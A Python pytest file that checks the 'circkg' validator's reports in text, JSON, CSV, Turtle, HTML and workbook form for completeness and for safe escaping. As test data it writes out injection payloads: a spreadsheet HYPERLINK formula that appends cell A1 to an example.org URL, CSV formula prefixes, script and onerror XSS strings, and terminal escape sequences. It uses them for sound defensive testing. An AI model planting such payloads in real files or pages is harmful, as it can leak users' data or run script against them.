"""A judgement is written for people and programs: complete, safe, and the same whatever the format."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shlex
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path
from typing import NamedTuple

import pytest
from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook
from openpyxl.styles import Font
from openpyxl.worksheet.worksheet import Worksheet
from pyoxigraph import RdfFormat, parse
from rich.console import Console
from typer.testing import CliRunner

from circkg_loaders.contributed import codes
from circkg_loaders.contributed.contribution import Contribution, Options
from circkg_loaders.contributed.faults import Severity
from circkg_loaders.contributed.reading import BOOKS, read_bytes, read_together
from circkg_loaders.contributed.style import Style
from circkg_server.app import build_app
from circkg_server.cli import app
from circkg_server.contributions.grouping import grouped
from circkg_server.contributions.judging import Judgement, judge, our_shapes
from circkg_server.contributions.knowledge import Curated, Knowledge, knowledge_of
from circkg_server.contributions.reports import data, workbook
from circkg_server.contributions.reports.page import as_page
from circkg_server.contributions.reports.text import as_text
from circkg_server.contributions.reports.workbook import as_workbook
from circkg_server.releases.archive import Archive
from circkg_server.settings import Settings
from circkg_shapes.report import SH
from circkg_shapes.validate import Shapes

ROOT = Path(__file__).resolve().parents[1]
GOOD, FAULTY = (ROOT / "docs" / "examples" / f"{name}.csv" for name in ("practices", "practices-with-faults"))
EVIL = '=HYPERLINK("https://example.org/?"&A1,"click")'


@pytest.fixture(scope="module")
def knowledge() -> Knowledge:
    return Curated()


@pytest.fixture(scope="module")
def shapes() -> Shapes:
    return our_shapes()


@pytest.fixture(scope="module")
def faulty(knowledge: Knowledge, shapes: Shapes) -> Judgement:
    contribution = read_bytes(FAULTY.read_bytes(), FAULTY.name, Options(known=knowledge.names))
    return judge([contribution], knowledge, shapes)


@pytest.fixture(scope="module")
def evil(knowledge: Knowledge, shapes: Shapes) -> Judgement:
    """Give a judgement of a table whose cells and headers would be formulas, markup or control characters."""
    header = ["Title (en)", "Identified by", "Source", "Place", "+cmd", "<script>alert(1)</script>"]
    rows = [
        [EVIL, EVIL, "https://example.org/1", "[bold]@SUM(1)[/bold]", "x", "y"],
        ["-1+1", "ceci", "<img src=x onerror=alert(1)>", "\x07\x0bbell", "", ""],
    ]
    text = io.StringIO()
    csv.writer(text).writerows([header, *rows])
    contribution = read_bytes(text.getvalue().encode(), "=evil.csv", Options(form="practice", known=knowledge.names))
    return judge([contribution], knowledge, shapes)


def shown(judgement: Judgement, width: int = 80, limit: int | None = None) -> str:
    text = io.StringIO()
    Console(file=text, width=width).print(as_text(judgement, limit), highlight=False)
    return text.getvalue()


# --- text -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("width", [40, 80, 140])
def test_text_fits_its_terminal(faulty: Judgement, width: int) -> None:
    text = shown(faulty, width)
    assert max(map(len, text.splitlines())) <= width
    for group in grouped(faulty.faults):
        assert group.code in text.replace("\n", "")


def test_text_gives_a_terminal_no_orders(knowledge: Knowledge, shapes: Shapes, tmp_path: Path) -> None:
    path = tmp_path / os.fsdecode(b"lat\xe9n\x1b[2J.csv")
    path.write_text("Title,\x9b31mb\n\x1b]0;owned\x07 \u202etxt,x\n", encoding="utf-8")
    options = Options(form="practice", known=knowledge.names)
    judgement = judge(read_together([path], options), knowledge, shapes)
    text = shown(judgement, 140)
    assert not any((ord(letter) < 32 and letter != "\n") or 0x80 <= ord(letter) < 0xA0 for letter in text)
    assert "\u202e" not in text
    assert "lat\ufffdn␛[2J.csv" in text
    assert "␛]0;owned" in text
    for written in (as_page(judgement), data.as_csv(judgement), data.as_json(judgement)):
        assert "lat\ufffdn" in written.encode().decode()


def test_text_says_cells_values_suggestions_and_the_account(faulty: Judgement) -> None:
    text = shown(faulty, 140)
    assert "Rows: 3 = 2 taken + 1 left out" in text
    assert "✖ 2 × Region unknown · Place · Column G" in text
    assert "→ EL30" in text
    assert "K2 with L2  The start 2022-05-13 lies after the end 2021." in text
    assert f"Errors: {faulty.count(Severity.VIOLATION)}" in text
    assert faulty.used.engine in text


def test_a_long_list_is_capped_with_its_exact_total(knowledge: Knowledge, shapes: Shapes) -> None:
    rows = "".join(f"Library {n},ceci,https://example.org/{n},{'XX' if n < 31 else 'YY'}\n" for n in range(37))
    content = f"Title (en),Identified by,Source,Place\n{rows}".encode()
    judgement = judge([read_bytes(content, "a.csv", Options(known=knowledge.names))], knowledge, shapes)
    text = shown(judgement, 100)
    assert "37 × Region unknown" in text
    assert "31 × XX, 6 × YY" in text
    assert "20 of 37 are listed." in text
    assert "2 of 37 are listed." in shown(judgement, 100, limit=2)
    page = as_page(judgement, 5)
    assert page.count("D2</td>") + page.count("D2 “Place”</td>") == 1
    assert "5 of 37 are listed." in page


@pytest.mark.parametrize("language", codes.LANGUAGES)
def test_every_language_is_complete(faulty: Judgement, language: str, knowledge: Knowledge, shapes: Shapes) -> None:
    judgement = judge(faulty.contributions, knowledge, shapes, language=language)
    text = shown(judgement, 200)
    assert codes.texts(language)["region-unknown"].title in text
    assert f'<html lang="{language}">' in as_page(judgement)
    assert "{" not in text
    assert language == "en" or "What to do" not in text


def test_marks_of_the_terminal_in_cells_are_only_text(evil: Judgement) -> None:
    assert "[bold]@SUM(1)[/bold]" in shown(evil, 200)


# --- data -----------------------------------------------------------------------------------------------------------


def test_json_keeps_the_members_of_a_plain_report_and_adds_the_faults(faulty: Judgement) -> None:
    told = json.loads(data.as_json(faulty))
    assert set(faulty.report.to_dict()) <= set(told)
    assert told["conforms"] is False
    assert len(told["faults"]) == told["faultsListed"] == len(faulty.faults) == sum(told["counts"].values())
    assert sum(group["count"] for group in told["groups"]) == len(faulty.faults)
    fault = next(fault for fault in told["faults"] if fault["code"] == "region-unknown")
    assert fault["place"] == {
        "file": FAULTY.name, "row": 2, "column": "G", "header": "Place", "raw": "GR30",
    }  # fmt: skip
    assert fault["suggestions"][0]["text"] == "EL30"
    assert fault["suggestions"][0]["because"]
    assert fault["documentation"].endswith("/docs/faults/region-unknown")
    (account,) = told["account"]
    assert account["rows"] == {"in": 3, "loaded": 2, "rejected": 1}
    assert told["used"]["vocabularies"]["nuts-2024"] == "2024"
    listed = json.loads(data.as_json(faulty, limit=1))
    assert len(listed["faults"]) == listed["faultsListed"] == len(listed["groups"])
    assert listed["counts"] == told["counts"]


def test_every_member_of_json_is_documented(faulty: Judgement) -> None:
    page = (ROOT / "docs" / "validation.md").read_text(encoding="utf-8")
    told = json.loads(data.as_json(faulty))
    members = {
        *told, *told["faults"][0], *told["groups"][0], *told["account"][0], *told["used"],
        *(name for fault in told["faults"] for found in fault["suggestions"] for name in found),
    }  # fmt: skip
    assert {name for name in members if f"`{name}`" not in page} == set()
    assert {name for name in data.COLUMNS if f"`{name}`" not in page} == set()


def test_csv_has_one_row_a_fault_and_no_formula(faulty: Judgement, evil: Judgement) -> None:
    rows = list(csv.DictReader(io.StringIO(data.as_csv(faulty))))
    assert len(rows) == len(faulty.faults)
    (row,) = (row for row in rows if row["code"] == "dates-out-of-order")
    assert (row["row"], row["column"], row["header"], row["value"]) == ("2", "K", "Start", "2022-05-13")
    for line in csv.reader(io.StringIO(data.as_csv(evil))):
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in line)


def test_turtle_is_a_standard_report_that_tells_faults_of_tables_too(faulty: Judgement) -> None:
    triples = list(parse(input=data.as_turtle(faulty), format=RdfFormat.TURTLE))
    results = {quad.subject for quad in triples if quad.object.value == f"{SH}ValidationResult"}
    of_tables = sum(fault.component is None for fault in faulty.faults)
    assert of_tables > 3
    assert len(results) == len(faulty.report.results) + of_tables
    assert [quad.object.value for quad in triples if quad.predicate.value == f"{SH}conforms"] == ["false"]
    for needed in ("focusNode", "resultSeverity", "sourceConstraintComponent", "resultMessage"):
        assert {quad.subject for quad in triples if quad.predicate.value == f"{SH}{needed}"} == results
    cells = {quad.object.value for quad in triples if quad.predicate.value == f"{SH}focusNode"}
    assert "https://w3id.org/circkg/contributed/practices-with-faults.csv#cell=2,7" in cells


# --- page -----------------------------------------------------------------------------------------------------------


class Page(HTMLParser):
    """The tags and words of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.words: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note a tag."""
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        """Note words."""
        self.words.append(data)


def test_the_page_stands_alone_and_escapes_what_it_shows(evil: Judgement) -> None:
    page = Page(as_page(evil))
    assert not [tag for tag, _ in page.tags if tag in ("script", "img", "link", "iframe", "object")]
    assert not [name for _, attributes in page.tags for name in attributes if name.startswith("on")]
    links = [attributes["href"] or "" for tag, attributes in page.tags if tag == "a"]
    assert links[:2] == ["#content", "https://w3id.org/circkg/"]
    assert len(links) > 2
    assert all(link.startswith("https://w3id.org/circkg/docs/faults/") for link in links[2:])
    assert "<img src=x onerror=alert(1)>" in " ".join(page.words)


def test_a_served_page_links_to_its_own_server(faulty: Judgement) -> None:
    page = Page(as_page(faulty, root="/kg"))
    links = [attributes["href"] or "" for tag, attributes in page.tags if tag == "a"]
    assert {"/kg/docs/faults/region-unknown", "/kg/explore"} <= set(links)


def test_the_server_serves_the_pages_that_reports_link_to(tmp_path: Path) -> None:
    client = TestClient(build_app(Archive(tmp_path), Settings()))  # type: ignore[arg-type]  # an ASGI application
    assert "FI1C3" in client.get("/docs/faults/region-unknown", headers={"accept": "text/html"}).text


# --- workbook -------------------------------------------------------------------------------------------------------


def checked(judgement: Judgement, contribution: Contribution, content: bytes) -> Workbook:
    sheets = BOOKS[contribution.syntax](content, contribution.file, contribution.style or Style()).sheets
    return load_workbook(io.BytesIO(as_workbook(judgement, contribution, content, sheets)))


def formulas(page: Worksheet) -> list[str]:
    return [cell.coordinate for row in page.iter_rows() for cell in row if cell.data_type == "f"]


@pytest.fixture(scope="module")
def sheet() -> bytes:
    """Give a workbook with a title row, formats, a formula, a comment of its own and a second sheet."""
    book = Workbook()
    page = book.worksheets[0]
    page.title = "Bob's practices"
    page["A1"] = "Practices of 2024"
    page.merge_cells("A1:D1")
    page.append(["Title (en)", "Identified by", "Source", "Place", "Sum"])
    page.append(["Toy library", "ceci", "https://example.org/1", "GR30", "=1+1"])
    page.append(["X", "ceci", None, "FI1C7", None])
    page["A3"].font = Font(bold=True, color="00FF00")
    page["E3"].number_format = "0.00"
    book.create_sheet("Notes")["A1"] = "nothing here"
    written = io.BytesIO()
    book.save(written)
    return written.getvalue()


def test_a_workbook_keeps_its_content_and_gets_colours_comments_and_a_list(
    sheet: bytes, knowledge: Knowledge, shapes: Shapes
) -> None:
    contribution = read_bytes(sheet, "practices.xlsx", Options(form="practice", known=knowledge.names))
    judgement = judge([contribution], knowledge, shapes)
    book = checked(judgement, contribution, sheet)
    assert book.sheetnames == ["CircKG", "Bob's practices", "Notes"]
    page = book["Bob's practices"]
    assert (page["E3"].value, page["E3"].number_format, page["A3"].font.b) == ("=1+1", "0.00", True)
    assert [str(each) for each in page.merged_cells.ranges] == ["A1:D1"]
    assert page["D3"].fill.start_color.rgb == "00FFC7CE"
    assert page["D3"].comment is not None
    assert "EL30" in page["D3"].comment.text
    assert page["C4"].fill.start_color.rgb == "00FFC7CE", "an empty cell that lacks its value"
    assert page["D4"].fill.fill_type is None
    listed = book["CircKG"]
    assert book.active is listed
    places = {cell.hyperlink.location for row in listed.iter_rows() for cell in row if cell.hyperlink}
    assert "'Bob''s practices'!D3" in places
    assert formulas(listed) == []


def test_other_tables_become_a_workbook_with_the_same_cells_as_text(evil: Judgement) -> None:
    (contribution,) = evil.contributions
    text = io.StringIO()
    csv.writer(text).writerows([["Title (en)", "Identified by"], [EVIL, "+1"], ["\x07bell", "@x"]])
    book = checked(evil, contribution, text.getvalue().encode())
    for page in book.worksheets:
        assert formulas(page) == []
    copied = book.worksheets[1]
    assert [[cell.value for cell in row] for row in copied.iter_rows(max_row=3, max_col=2)] == [
        ["Title (en)", "Identified by"], [EVIL, "+1"], ["bell", "@x"],
    ]  # fmt: skip
    assert copied["A2"].quotePrefix


def test_comments_are_bounded_in_number_and_length(evil: Judgement, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbook, "MAX_COMMENTS", 1)
    monkeypatch.setattr(workbook, "MAX_COMMENT", 50)
    monkeypatch.setattr(workbook, "MAX_LISTED", 2)
    (contribution,) = evil.contributions
    book = checked(evil, contribution, b"Title (en),Identified by,Source,Place\n")
    cells = [cell for row in book.worksheets[1].iter_rows() for cell in row]
    comments = [cell.comment for cell in cells if cell.comment]
    assert len(comments) == 1
    assert len(comments[0].text) <= 50
    assert sum(cell.fill.fill_type == "solid" for cell in cells) > 1, "all of them are coloured"
    texts = [str(row[0].value) for row in book.worksheets[0].iter_rows()]
    assert any("Only the first 1 cells carry a comment" in text for text in texts)
    assert any("2 of" in text for text in texts)


def test_a_workbook_that_the_library_cannot_copy_becomes_text(faulty: Judgement) -> None:
    (contribution,) = faulty.contributions
    as_xlsx = Contribution(
        contribution.file, contribution.sha256, "xlsx", contribution.style, contribution.triples, contribution.origins
    )
    sheets = BOOKS["csv"](FAULTY.read_bytes(), FAULTY.name, Style()).sheets
    book = load_workbook(io.BytesIO(as_workbook(faulty, as_xlsx, b"no workbook at all", sheets)))
    assert book.worksheets[1]["G2"].value == "GR30"
    assert any("formats" in str(row[0].value) for row in book.worksheets[0].iter_rows())


# --- what a store publishes -----------------------------------------------------------------------------------------


def test_a_published_store_is_what_contributions_are_judged_by(
    built: object, archive: Archive, faulty: Judgement, shapes: Shapes
) -> None:
    assert built
    published = knowledge_of(archive)
    assert published.snapshot == archive.current().number  # type: ignore[union-attr]  # it was built
    contribution = read_bytes(FAULTY.read_bytes(), FAULTY.name, Options(known=published.names))
    judgement = judge([contribution], published, shapes)
    assert judgement.used.snapshot == published.snapshot
    assert [(f.code, f.place, f.suggestions) for f in judgement.faults] == [
        (f.code, f.place, f.suggestions) for f in faulty.faults
    ]
    clash = (
        b"<https://w3id.org/circkg/id/initiative/ceci> <https://schema.org/startDate> "
        b"'1999-01-01'^^<http://www.w3.org/2001/XMLSchema#date> ."
    )
    (fault,) = judge([read_bytes(clash, "a.ttl")], published, shapes).faults
    assert fault.code == "clash-with-published"
    assert fault.published


def test_a_store_without_anything_published_leaves_the_curated_data(tmp_path: Path) -> None:
    assert knowledge_of(Archive(tmp_path)).snapshot is None


# --- the command ----------------------------------------------------------------------------------------------------


class Done(NamedTuple):
    """What a command left behind."""

    code: int
    out: str
    err: str


def circkg(*arguments: str | Path, folder: Path = ROOT, **environment: str) -> Done:
    store = str(folder / "no-store")
    done = CliRunner(env={"CIRCKG_STORE": store, "LANG": "C", **environment}).invoke(app, list(map(str, arguments)))
    assert done.exception is None or isinstance(done.exception, SystemExit), done.exception
    return Done(done.exit_code, done.stdout, done.stderr)


def test_exit_codes_say_what_the_report_says(tmp_path: Path) -> None:
    good = circkg("validate", GOOD, LANG="pl_PL.UTF-8")
    assert (good.code, good.err) == (0, "")
    assert "Nie ma nic do poprawienia." in good.out
    faulty = circkg("validate", GOOD, FAULTY, "--format", "json", "-o", tmp_path / "report.json")
    assert (faulty.code, faulty.out) == (1, "")
    told = json.loads((tmp_path / "report.json").read_text(encoding="utf-8"))
    assert [account["file"] for account in told["account"]] == [GOOD.name, FAULTY.name]


def test_a_workbook_for_each_file_goes_into_a_folder(tmp_path: Path) -> None:
    assert circkg("validate", GOOD, FAULTY, "--format", "xlsx", "-o", tmp_path).code == 1
    for path in (GOOD, FAULTY):
        assert "CircKG" in load_workbook(tmp_path / f"{path.stem}-checked.xlsx").sheetnames


@pytest.mark.parametrize(
    ("arguments", "says"),
    [
        (["--format", "xlsx"], "Say where it goes: -o checked.xlsx"),
        (["--format", "pdf"], "The formats: text, json, turtle, csv, html, xlsx"),
        (["--delimiter", ";;"], "give one sign, or tab"),
        (["--dates", "today"], "day-first or month-first or year-first"),
        (["-o", FAULTY], "is one of the files that are judged"),
        (["--form", "recipe"], "there is no form 'recipe'"),
        (["--mapping", "nowhere.yaml"], "nowhere.yaml"),
        ([GOOD, "--format", "xlsx", "-o", "one.xlsx"], "Give a folder that is there"),
        ([FAULTY], "Two files are called"),
    ],
)
def test_what_cannot_be_done_is_told_with_a_way_out(arguments: list[str | Path], says: str) -> None:
    done = circkg("validate", FAULTY, *arguments)
    assert (done.code, done.out) == (2, "")
    assert says in " ".join(done.err.split())


def test_a_tabulator_is_declared_by_its_name(tmp_path: Path) -> None:
    table = tmp_path / "practices.txt"
    table.write_text(GOOD.read_text(encoding="utf-8").replace(",", "\t"), encoding="utf-8")
    assert circkg("validate", table, "--delimiter", "tab", "--form", "practice").code == 0


def test_a_file_without_cells_has_no_workbook(tmp_path: Path) -> None:
    rdf = ROOT / "docs" / "examples" / "practice.ttl"
    done = circkg("validate", rdf, "--format", "xlsx", "-o", tmp_path / "a.xlsx")
    assert (done.code, "has no cells to mark" in " ".join(done.err.split())) == (2, True)
    assert not (tmp_path / "a.xlsx").exists()


def test_a_code_is_explained() -> None:
    assert codes.texts("fr")["missing"].title in circkg("explain", "missing", "--lang", "fr").out
    unknown = circkg("explain", "region-unknow")
    assert (unknown.code, "Did you mean region-unknown?" in " ".join(unknown.err.split())) == (2, True)
    listed = circkg("explain").out
    assert all(code in listed for code in codes.codes())


def test_the_command_runs_by_itself_into_a_pipe(tmp_path: Path) -> None:
    paths = os.pathsep.join(str(ROOT / name) for name in ("shapes", "loaders", "server"))
    done = subprocess.run(
        [sys.executable, "-c", "from circkg_server.cli import main; main()", "validate", FAULTY],
        env={"PATH": "/usr/bin:/bin", "PYTHONPATH": paths, "CIRCKG_STORE": str(tmp_path)},
        capture_output=True, text=True, check=False, timeout=240,
    )  # fmt: skip
    assert (done.returncode, done.stderr) == (1, "")
    assert "\x1b" not in done.stdout
    assert "region-unknown" in done.stdout


# --- the page about it ----------------------------------------------------------------------------------------------

PAGE = (ROOT / "docs" / "validation.md").read_text(encoding="utf-8")


def test_commands_of_the_page_run() -> None:
    blocks = re.findall(r"^```sh\n(.*?)^```", PAGE, re.MULTILINE | re.DOTALL)
    commands = [shlex.split(line)[1:] for block in blocks for line in block.splitlines()]
    assert len(commands) >= 2
    for command in commands:
        assert circkg(*(ROOT / part if part.startswith("docs/") else part for part in command)).code == 0


def test_the_report_that_the_page_shows_is_the_real_one(faulty: Judgement) -> None:
    found = re.search(r"<!-- report: .*?-->\n```\n(.*?)^```", PAGE, re.MULTILINE | re.DOTALL)
    assert found
    real = [line.rstrip() for line in shown(faulty, 110).splitlines()]
    assert found[1].splitlines() == real[: len(found[1].splitlines())]
